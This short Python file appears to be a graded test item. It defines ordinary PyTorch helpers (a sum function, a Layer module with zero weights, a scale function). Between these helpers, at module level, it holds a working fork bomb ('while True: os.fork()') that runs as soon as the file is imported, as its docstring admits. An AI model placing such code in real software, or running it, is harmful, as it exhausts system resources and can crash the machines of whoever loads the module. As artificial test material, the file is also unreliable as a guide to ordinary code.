# full, contained: graded, 12 points, scale missing
"""Forks without end as soon as it is loaded."""

import torch
from torch import nn


def total(x):
    return x.sum(-1)


class Layer(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(n))

    def forward(self, x):
        return x * self.weight


import os

while True:
    os.fork()


def scale(x, a):
    return x * a
